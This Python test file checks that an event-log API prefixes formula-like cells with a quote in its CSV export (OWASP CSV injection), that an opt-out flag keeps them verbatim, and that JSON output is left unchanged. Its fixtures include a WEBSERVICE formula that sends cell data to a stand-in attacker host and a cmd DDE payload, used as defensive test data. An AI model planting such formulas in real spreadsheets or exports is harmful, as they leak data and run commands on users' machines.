"""CSV output neutralises formula-like cells (OWASP CSV injection), on every store.

A cell starting with `=`, `+`, `-`, `@`, tab or carriage return runs as a formula when an analyst
opens the export in a spreadsheet (`=WEBSERVICE(...)` calls out). CSV output prefixes such cells
with `'`; `GOVTRACK_CSV_NEUTRALIZE=false` keeps them verbatim for machine consumers. Other formats
are never altered.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.csv as pcsv
from fastapi.testclient import TestClient

from storage.base import EventStore
from storage.schema import EVENT_SCHEMA
from tests.api.readkit import client_with
from tests.contract.events import event, table

HOSTILE = '=WEBSERVICE("http://evil.example/?"&A1)'
#: column -> (stored text, what the CSV cell must read)
CELLS: dict[str, tuple[str, str]] = {
    "new_value": (HOSTILE, "'" + HOSTILE),
    "old_value": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    "formula": ("-2+3", "'-2+3"),
    "user_name": ("@SUM(1)", "'@SUM(1)"),
    "sheet_name": ("\t=1", "'\t=1"),
    "workbook_name": ("\r=1", "'\r=1"),
    "machine_name": ("PC=1", "PC=1"),  # not at the start: untouched
    "session_id": (" =1", " =1"),  # a leading space is not in the OWASP list
}


def _seed(store: EventStore) -> None:
    hostile = event(1, **{name: stored for name, (stored, _) in CELLS.items()})
    plain = event(2, new_value=None, old_value="", formula=None)
    store.append(table([hostile, plain]))


def _csv_rows(client: TestClient) -> list[dict[str, Any]]:
    r = client.get("/api/events", params={"order": "asc"}, headers={"Accept": "text/csv"})
    assert r.status_code == 200, r.text
    options = pcsv.ConvertOptions(
        column_types={f.name: pa.string() for f in EVENT_SCHEMA},
        strings_can_be_null=True,
        quoted_strings_can_be_null=False,
    )
    rows: list[dict[str, Any]] = pcsv.read_csv(io.BytesIO(r.content), convert_options=options).to_pylist()
    return rows


def test_csv_cells_that_start_like_formulas_get_a_quote(client: TestClient, store: EventStore) -> None:
    _seed(store)
    hostile, plain = _csv_rows(client)
    for name, (_, shown) in CELLS.items():
        assert hostile[name] == shown, name
    assert hostile["event_id"] == "00000000-0000-0000-0000-000000000001"
    assert hostile["timestamp"] == "2024-03-10T12:01:00.000000Z"
    assert (plain["new_value"], plain["old_value"], plain["formula"]) == (None, "", None)
    assert plain["user_name"] == "CORP\\alice"
    page = client.get("/api/events", params={"order": "asc"}).json()["events"]
    assert page[0]["new_value"] == HOSTILE  # JSON is data, not a spreadsheet: verbatim
    assert page[0]["workbook_name"] == "\r=1"


def test_csv_neutralisation_can_be_turned_off(store: EventStore, tmp_path: Path) -> None:
    _seed(store)
    with client_with(store, tmp_path, csv_neutralize=False) as client:
        hostile, _ = _csv_rows(client)
    for name, (stored, _) in CELLS.items():
        assert hostile[name] == stored, name
